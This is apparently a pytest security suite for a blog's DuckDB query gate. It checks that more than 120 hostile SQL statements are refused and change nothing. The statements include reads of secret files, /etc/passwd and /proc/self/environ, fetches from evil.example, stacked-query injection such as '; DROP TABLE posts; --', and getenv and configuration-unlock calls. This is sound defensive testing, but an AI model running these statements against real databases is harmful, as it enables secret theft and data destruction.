"""Statements that try for more than the blog's rows: each is refused with its reason, and nothing changes."""

from __future__ import annotations

import hashlib
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from tools.blog import BlogTools
from warehouse.errors import QueryError
from warehouse.records import Rows
from warehouse.sql.limits import Limits
from warehouse.store import Warehouse

LIMITS = Limits(max_rows=100, max_chars=100_000, max_cell=10_000, seconds=5.0)
KEY = "xyzzy-key-from-the-environment"


@dataclass(frozen=True)
class Fort:
    """A warehouse file of its own beside a secret; nothing of this folder may be read, changed or added to."""

    warehouse: Warehouse
    folder: Path

    def ask(self, sql: str) -> Rows:
        for name, file in {"SECRET": "secret.csv", "NEW": "new.csv", "DB": "warehouse.duckdb"}.items():
            sql = sql.replace(f"<{name}>", (self.folder / file).as_posix())
        return self.warehouse.query(sql, LIMITS)

    def state(self) -> dict[str, str]:
        return {
            str(path.relative_to(self.folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in self.folder.rglob("*")
            if path.is_file()
        }


@pytest.fixture(scope="module")
def fort(synced: BlogTools, tmp_path_factory: pytest.TempPathFactory) -> Fort:
    folder = tmp_path_factory.mktemp("fort")
    shutil.copy(synced.snapshots.current().folder / "warehouse.duckdb", folder)
    (folder / "secret.csv").write_text("word\nxyzzy\n", encoding="utf-8")
    return Fort(Warehouse(folder / "warehouse.duckdb"), folder)


READ_ONLY = "read-only"
NO_TABLE = "there is no table"
NO_FUNCTION = "is not available"
ONE = "one statement"
SYNTAX = "does not parse"
ANY = ""

ATTACKS: dict[str, list[str]] = {
    READ_ONLY: [
        # files
        "COPY posts TO '<NEW>'",
        "COPY (SELECT 'x') TO '<DB>' (FORMAT csv, HEADER false, USE_TMP_FILE false)",
        "COPY tags FROM '<SECRET>'",
        "EXPORT DATABASE '<NEW>'",
        "ATTACH '<NEW>'",
        "ATTACH ':memory:' AS other",
        "ATTACH 'https://evil.example/x.duckdb' AS other (READ_ONLY)",
        "DETACH warehouse",
        "USE memory",
        # extensions and configuration
        "INSTALL httpfs",
        "INSTALL httpfs FROM 'https://evil.example'",
        "FORCE INSTALL httpfs",
        "LOAD httpfs",
        "LOAD '<NEW>'",
        "SET enable_external_access = true",
        "SET GLOBAL memory_limit = '100GB'",
        "SET SESSION threads = 64",
        "SET lock_configuration = false",
        "SET disabled_filesystems = ''",
        "SET temp_directory = '/tmp'",
        "SET TimeZone = 'Asia/Tokyo'",
        "SET schema = 'information_schema'",
        "SET search_path = 'pg_catalog'",
        "RESET lock_configuration",
        "SET VARIABLE x = 1",
        "PRAGMA enable_profiling",
        "PRAGMA enable_logging",
        "PRAGMA memory_limit = '100GB'",
        "PRAGMA disable_optimizer",
        "PRAGMA profiling_output = '<NEW>'",
        "CALL enable_logging()",
        "CALL pragma_version()",
        "CALL force_checkpoint()",
        "CREATE SECRET (TYPE s3)",
        "CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
        "DROP SECRET s",
        # changes
        "CREATE TABLE x AS SELECT 1",
        "CREATE TEMP TABLE posts AS SELECT 1",
        "CREATE OR REPLACE TEMP VIEW posts AS SELECT 1",
        "CREATE MACRO lower(x) AS 'x'",
        "CREATE TEMP MACRO count(x) AS 1",
        "CREATE SCHEMA s",
        "CREATE SEQUENCE s",
        "CREATE TYPE t AS ENUM ('a')",
        "CREATE INDEX i ON posts (slug)",
        "INSERT INTO tags VALUES ('x', 'x')",
        "INSERT OR REPLACE INTO tags VALUES ('x', 'x')",
        "UPDATE posts SET title = 'x'",
        "DELETE FROM posts",
        "TRUNCATE posts",
        "DROP TABLE posts",
        "DROP VIEW topics",
        "ALTER TABLE posts ADD COLUMN x INTEGER",
        "ALTER TABLE posts RENAME TO x",
        "COMMENT ON TABLE posts IS 'x'",
        "MERGE INTO tags USING tags AS t ON false WHEN NOT MATCHED THEN INSERT VALUES ('x', 'x')",
        "VACUUM",
        "ANALYZE",
        "CHECKPOINT",
        "FORCE CHECKPOINT",
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "DEALLOCATE p",
        "EXPLAIN SELECT 1",
        "EXPLAIN ANALYZE DELETE FROM posts",
    ],
    ANY: [
        "WITH x AS (INSERT INTO tags VALUES ('x', 'x') RETURNING *) SELECT * FROM x",
        "WITH x AS (DELETE FROM posts RETURNING *) SELECT * FROM x",
        "WITH x AS (UPDATE posts SET title = 'x' RETURNING *) SELECT * FROM x",
        "IMPORT DATABASE '<NEW>'",
        "PRAGMA database_list",
        "PRAGMA show_tables",
        "PRAGMA table_info('posts')",
        "PRAGMA storage_info('posts')",
        "SELECT * FROM posts; ; DROP TABLE posts; --",
        "UPDATE EXTENSIONS",
        "FROM posts PIVOT (count(*) FOR year IN (SELECT word FROM '<SECRET>'))",
        "SHOW DATABASES",
        "SHOW ALL TABLES",
        "SHOW VARIABLES",
        "DESCRIBE '<SECRET>'",
        "SUMMARIZE '<SECRET>'",
        "DESCRIBE duckdb_settings",
        "SUMMARIZE duckdb_settings",
        "DESCRIBE SELECT * FROM duckdb_settings()",
        "SUMMARIZE FROM read_text('<SECRET>')",
        "SELECT $1",
        "SELECT ?",
        "EXECUTE IMMEDIATE 'SELECT 1'",
        "\ufeffDROP TABLE posts",
        "DR/**/OP TABLE posts",
        ".read <SECRET>",
        "\\copy posts to '<NEW>'",
    ],
    ONE: [
        "SELECT 1; SELECT 2",
        "SELECT 1;; SELECT 2",
        "SELECT ';'; SELECT slug FROM posts",
        "WITH a AS (SELECT 1) SELECT * FROM a; SELECT 2",
    ],
    NO_TABLE: [
        "SELECT * FROM '<SECRET>'",
        'SELECT * FROM "<SECRET>"',
        "SELECT count(*) FROM posts WHERE slug IN (SELECT word FROM '<SECRET>')",
        "SELECT * FROM posts JOIN '<SECRET>' ON true",
        "SELECT * FROM posts, LATERAL (SELECT * FROM '<SECRET>')",
        "SELECT (SELECT word FROM '<SECRET>')",
        "SELECT slug FROM posts ORDER BY (SELECT word FROM '<SECRET>')",
        "SELECT slug FROM posts LIMIT (SELECT count(*) FROM '<SECRET>')",
        "SELECT slug FROM posts GROUP BY slug HAVING slug = (SELECT word FROM '<SECRET>')",
        "SELECT row_number() OVER (ORDER BY (SELECT word FROM '<SECRET>')) FROM posts",
        "SELECT slug FROM posts QUALIFY row_number() OVER () = (SELECT word FROM '<SECRET>')",
        "SELECT count(*) FILTER (WHERE slug IN (FROM '<SECRET>')) FROM posts",
        "SELECT list_transform([1], lambda x: (SELECT word FROM '<SECRET>'))",
        "SELECT CASE WHEN true THEN (SELECT word FROM '<SECRET>') END",
        "FROM (FROM '<SECRET>') PIVOT (count(*) FOR word IN ('xyzzy'))",
        "UNPIVOT '<SECRET>' ON word",
        "SELECT * FROM posts POSITIONAL JOIN '<SECRET>'",
        "SELECT * FROM posts ASOF JOIN '<SECRET>' ON year >= word",
        "SELECT 1 UNION ALL (SELECT word FROM '<SECRET>')",
        "SELECT 1 EXCEPT SELECT word FROM '<SECRET>'",
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT word FROM '<SECRET>') SELECT * FROM r",
        "VALUES ((SELECT word FROM '<SECRET>'))",
        "TABLE '<SECRET>'",
        "SELECT * FROM 'https://evil.example/x.csv'",
        "SELECT * FROM 's3://evil/x.parquet'",
        "SELECT * FROM '<NEW>.parquet'",
        "SELECT * FROM '/proc/self/environ'",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM duckdb_settings",
        "SELECT * FROM duckdb_secrets",
        "SELECT * FROM pragma_database_list",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM pg_catalog.pg_settings",
        "SELECT * FROM pg_tables",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM information_schema.posts",
        "SELECT * FROM pg_catalog.posts",
        "SELECT * FROM temp.posts",
        "SELECT * FROM system.main.duckdb_databases",
        "SELECT * FROM other.main.posts",
        "SELECT * FROM (WITH hidden AS (SELECT 1) SELECT 1) AS x, hidden",
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
        "WITH a AS (SELECT * FROM a) SELECT * FROM a",
        "SELECT * FROM sys_var",
        "SELECT * FROM fort",
        "SELECT * FROM warehouse",
    ],
    NO_FUNCTION: [
        "SELECT * FROM read_csv('<SECRET>')",
        "SELECT * FROM read_csv_auto('<SECRET>')",
        "SELECT * FROM read_text('<SECRET>')",
        "SELECT * FROM read_blob('<SECRET>')",
        "SELECT * FROM read_json('<SECRET>')",
        "SELECT * FROM read_parquet('<NEW>')",
        "SELECT * FROM parquet_metadata('<NEW>')",
        "SELECT * FROM sniff_csv('<SECRET>')",
        "SELECT * FROM glob('<SECRET>')",
        "SELECT * FROM glob('/**')",
        "SELECT (SELECT content FROM read_text('<SECRET>'))",
        "WITH x AS (SELECT * FROM read_text('<SECRET>')) SELECT * FROM x",
        "SELECT 1 UNION ALL SELECT size FROM read_blob('<SECRET>')",
        "SELECT * FROM read_duckdb('<DB>')",
        "SELECT * FROM seq_scan('posts')",
        "SELECT * FROM arrow_scan(1, 2, 3)",
        "SELECT * FROM pandas_scan(1)",
        "SELECT * FROM python_map_function(1)",
        "SELECT * FROM enable_logging()",
        "SELECT * FROM enable_profiling()",
        "SELECT * FROM truncate_duckdb_logs()",
        "SELECT * FROM duckdb_logs()",
        "SELECT * FROM checkpoint()",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_databases()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_functions()",
        "SELECT * FROM duckdb_extensions()",
        "SELECT * FROM duckdb_temporary_files()",
        "SELECT * FROM duckdb_variables()",
        "SELECT * FROM pragma_table_info('posts')",
        "SELECT * FROM pragma_platform()",
        "SELECT * FROM which_secret('s3://x', 's3')",
        "FROM query('SELECT 1')",
        "FROM query('SELECT * FROM read_text(''<SECRET>'')')",
        "FROM query_table('duckdb_settings')",
        "SELECT write_log('x')",
        "SELECT current_setting('temp_directory')",
        "SELECT \"CURRENT_SETTING\"('temp_directory')",
        "SELECT main.current_setting('temp_directory')",
        "SELECT 'temp_directory'.current_setting()",
        "SELECT slug FROM posts ORDER BY current_setting('threads')",
        "SELECT getenv('HOME')",
        "SELECT getvariable('x')",
        "SELECT list_transform(['HOME'], lambda x: getenv(x))",
        "SELECT current_query()",
        "SELECT current_database()",
        "SELECT current_schemas(true)",
        "SELECT txid_current()",
        "SELECT nextval('s')",
        "SELECT setseed(0.5)",
        "SELECT sleep_ms(10000)",
        "SELECT pg_sleep(10)",
        "SELECT pg_get_viewdef(1)",
        "SELECT inet_server_addr()",
        "SELECT stats(slug) FROM posts",
        "SELECT json_serialize_sql('SELECT 1')",
        "SELECT json_serialize_plan('SELECT current_setting(''secret_directory'')', optimize := true)",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM duckdb_settings()'))",
        "SELECT system.main.current_setting('threads')",
    ],
    "named like a system table": [
        "WITH pg_settings AS (SELECT 1) SELECT * FROM pg_settings",
        "SELECT * FROM (WITH duckdb_settings AS (SELECT 1) SELECT 1) AS x, duckdb_settings",
    ],
    SYNTAX: [
        "SELECT * FROM posts WHERE slug = 'x' OR",
        "'; DROP TABLE posts; --",
        "SELECT 1 INTO OUTFILE '<NEW>'",
    ],
}


@pytest.mark.parametrize(("sql", "reason"), [(sql, reason) for reason, group in ATTACKS.items() for sql in group])
def test_an_attack_is_refused_with_its_reason_and_changes_nothing(
    fort: Fort, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, sql: str, reason: str
) -> None:
    monkeypatch.chdir(tmp_path)
    before = fort.state()
    with pytest.raises(QueryError) as caught:
        fort.ask(sql)
    told = str(caught.value)
    assert reason in told
    assert "xyzzy" not in told and "\n" not in told
    assert fort.state() == before and not list(tmp_path.iterdir())
    assert fort.ask("SELECT count(*) FROM posts").rows == [[3]]


def test_the_suite_is_large_enough_to_mean_something() -> None:
    assert len({sql for group in ATTACKS.values() for sql in group}) >= 120


def test_the_process_that_runs_queries_holds_none_of_the_environment(
    fort: Fort, monkeypatch: pytest.MonkeyPatch
) -> None:
    from warehouse.sql.sandbox import SHARED

    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    SHARED.close()
    assert fort.ask("SELECT 1").rows == [[1]]
    environ = Path(f"/proc/{SHARED.pid}/environ")
    if not environ.exists():
        pytest.skip("this system does not show a process's environment")
    assert os.environ["OPENAI_API_KEY"] == KEY
    assert KEY.encode() not in environ.read_bytes()


@pytest.mark.parametrize(
    "sql",
    [
        "COPY (SELECT 'x') TO '<DB>' (FORMAT csv, HEADER false, USE_TMP_FILE false)",
        "COPY posts TO '<NEW>'",
        "SELECT * FROM read_text('<SECRET>')",
        "SELECT * FROM '<SECRET>'",
        "ATTACH '<NEW>'",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "DELETE FROM posts",
        "DROP TABLE posts",
    ],
)
def test_the_connection_itself_is_locked_behind_the_gate(fort: Fort, sql: str) -> None:
    before = fort.state()
    for name, file in {"SECRET": "secret.csv", "NEW": "new.csv", "DB": "warehouse.duckdb"}.items():
        sql = sql.replace(f"<{name}>", (fort.folder / file).as_posix())
    with fort.warehouse._cursor() as cursor, pytest.raises(duckdb.Error):
        cursor.execute(sql).fetchall()
    assert fort.state() == before
